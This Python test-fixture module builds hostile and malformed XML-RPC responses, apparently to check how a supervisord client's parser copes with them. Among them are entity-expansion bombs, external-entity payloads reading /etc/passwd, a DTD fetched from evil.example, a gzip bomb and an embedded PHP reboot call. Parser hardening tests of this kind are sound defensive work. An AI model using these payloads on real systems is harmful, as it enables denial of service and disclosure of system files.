"""Answers that no supervisord gives: too large, too deep, too many, in another encoding, or with a document type.

`WHOLE` are refused or read like any other; `AT_THE_LIMIT` are as large as an answer may be, each built to cost as much as
its size can buy.
"""

from __future__ import annotations

import gzip
from collections.abc import Callable

MEGABYTE = 1024 * 1024
LIMIT = 8 * MEGABYTE

HEAD = b"<?xml version='1.0'?>\n<methodResponse><params><param>"
TAIL = b"</param></params></methodResponse>\n"


def answer(value: bytes) -> bytes:
    """One value as an answer."""
    return HEAD + value + TAIL


def array(values: bytes) -> bytes:
    """Values as one array."""
    return answer(b"<value><array><data>" + values + b"</data></array></value>")


def _nested(depth: int) -> bytes:
    return answer(b"<value><array><data>" * depth + b"<value/>" + b"</data></array></value>" * depth)


def _laughs() -> bytes:
    entities = b'<!ENTITY a0 "ha">' + b"".join(
        b'<!ENTITY a%d "%b">' % (level, b"&a%d;" % (level - 1) * 10) for level in range(1, 10)
    )
    return b"<?xml version='1.0'?><!DOCTYPE x [" + entities + b"]>" + answer(b"<value>&a9;</value>")[22:]


def _quadratic() -> bytes:
    big = b'<!ENTITY a "' + b"x" * 50_000 + b'">'
    return (
        b"<?xml version='1.0'?><!DOCTYPE x ["
        + big
        + b"]>"
        + answer(b"<value>" + b"&a;" * 5000 + b"</value>")[22:]
    )


PLAIN = answer(b"<value><string>ok</string></value>")

WHOLE: dict[str, bytes] = {
    "nothing": b"",
    "blanks": b" \r\n\t" * 100,
    "a billion laughs": _laughs(),
    "quadratic blow-up": _quadratic(),
    "external entity": b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><methodResponse>&e;",
    "external document type": b"<!DOCTYPE methodResponse SYSTEM 'http://evil.example/x.dtd'><methodResponse/>",
    "parameter entity": b"<!DOCTYPE x [<!ENTITY % e SYSTEM 'file:///etc/passwd'> %e;]><methodResponse/>",
    "17 deep": _nested(17),
    "5,000 deep": _nested(5000),
    "5,000 open elements": HEAD + b"<value><array><data>" * 5000,
    "a number of 1 MB": answer(b"<value><int>" + b"9" * MEGABYTE + b"</int></value>"),
    "a double of 1 MB": answer(b"<value><double>" + b"9" * MEGABYTE + b"</double></value>"),
    "2**63": answer(b"<value><int>9223372036854775808</int></value>"),
    "a number in Arabic digits": answer("<value><int>٤٢</int></value>".encode()),
    "infinity": answer(b"<value><double>1e9999</double></value>"),
    "not a number": answer(b"<value><double>nan</double></value>"),
    "200,001 values": array(b"<value/>" * 200_001),
    "an element name of 1 MB": HEAD + b"<" + b"v" * MEGABYTE + b">",
    "an attribute of 1 MB": HEAD + b"<value a='" + b"v" * MEGABYTE + b"'/>" + TAIL,
    "10,000 attributes": HEAD + b"<value " + b" ".join(b"a%d=''" % n for n in range(10_000)) + b"/>" + TAIL,
    "a name space": answer(b"<x:value xmlns:x='urn:x'>a</x:value>"),
    "gzip": gzip.compress(PLAIN),
    "a gzip bomb": gzip.compress(b"\x00" * (64 * MEGABYTE), 9),
    "utf-16": PLAIN.decode().encode("utf-16"),
    "utf-7 declared": PLAIN.replace(b"'1.0'", b"'1.0' encoding='utf-7'"),
    "utf-16 declared": PLAIN.replace(b"'1.0'", b"'1.0' encoding='utf-16'"),
    "latin-1 declared and sent": PLAIN.replace(b"'1.0'", b"'1.0' encoding='latin-1'").replace(b"ok", b"\xfc"),
    "byte order mark": b"\xef\xbb\xbf" + PLAIN,
    "overlong": answer(b"<value>\xc0\xbcvalue></value>"),
    "surrogates": answer(b"<value>\xed\xa0\xbd\xed\xb8\x80</value>"),
    "two answers": PLAIN + PLAIN,
    "a comment of 1 MB": answer(b"<!--" + b"x" * MEGABYTE + b"--><value/>"),
    "a processing instruction": b"<?php system('reboot') ?>" + PLAIN,
    "cdata": answer(b"<value><![CDATA[<b>]]></value>"),
    "a web page": b"<!DOCTYPE html><html><body>Log in</body></html>",
    "json": b'{"faultCode": 1}',
    "a reference to NUL": answer(b"<value>&#0;</value>"),
    "a reference to ESC": answer(b"<value>&#27;[2J</value>"),
    "base64 that is none": answer(b"<value><base64>!!!</base64></value>"),
    "a fault that is an array": b"<methodResponse><fault><value><array><data/></array></value></fault></methodResponse>",
    "a fault whose code is a text": (
        b"<methodResponse><fault><value><struct><member><name>faultCode</name><value>x</value></member>"
        b"<member><name>faultString</name><value>y</value></member></struct></value></fault></methodResponse>"
    ),
    "the same member 1,000 times": answer(
        b"<value><struct>" + b"<member><name>a</name><value/></member>" * 1000 + b"</struct></value>"
    ),
}


def _fill(piece: bytes, count: int = LIMIT) -> bytes:
    return array(piece * min(count, (LIMIT - 300) // len(piece)))


AT_THE_LIMIT: dict[str, Callable[[], bytes]] = {
    "one text": lambda: answer(b"<value>" + b"x" * (LIMIT - 200) + b"</value>"),
    "one text with a control character and an emoji": lambda: answer(
        b"<value>\x1b" + "👍".encode() + b"x" * (LIMIT - 300) + b"</value>"
    ),
    "control characters alone": lambda: answer(b"<value>" + b"\x1b" * (LIMIT - 200) + b"</value>"),
    "line feeds": lambda: answer(b"<value>" + b"\n" * (LIMIT - 200) + b"</value>"),
    "entities": lambda: answer(b"<value>" + b"&lt;" * ((LIMIT - 200) // 4) + b"</value>"),
    "a comment": lambda: answer(b"<!--" + b"x" * (LIMIT - 200) + b"--><value/>"),
    "comments": lambda: answer(b"<value>" + b"<!---->" * ((LIMIT - 200) // 7) + b"</value>"),
    "instructions": lambda: answer(b"<value>" + b"<?a?>" * ((LIMIT - 200) // 5) + b"</value>"),
    "empty values": lambda: _fill(b"<value/>", 199_990),
    "short texts": lambda: _fill(b"<value>ab</value>", 199_990),
    "short wide texts": lambda: _fill("<value>日本</value>".encode(), 199_990),
    "structs": lambda: _fill(b"<value><struct/></value>", 199_990),
    "arrays": lambda: _fill(b"<value><array><data/></array></value>", 199_990),
    "members": lambda: answer(
        b"<value><struct>"
        + b"".join(b"<member><name>%d</name><value/></member>" % n for n in range(150_000))
        + b"</struct></value>"
    ),
    "numbers": lambda: _fill(b"<value><int>1234567890123</int></value>", 199_990),
    "base64": lambda: answer(b"<value><base64>" + b"AAAA" * ((LIMIT - 300) // 4) + b"</base64></value>"),
    "blanks between": lambda: _fill(b"<value> </value>" + b" " * 20, 199_990),
    "attributes": lambda: _fill(b"<value a='1' b='2' c='3'/>", 199_990),
}
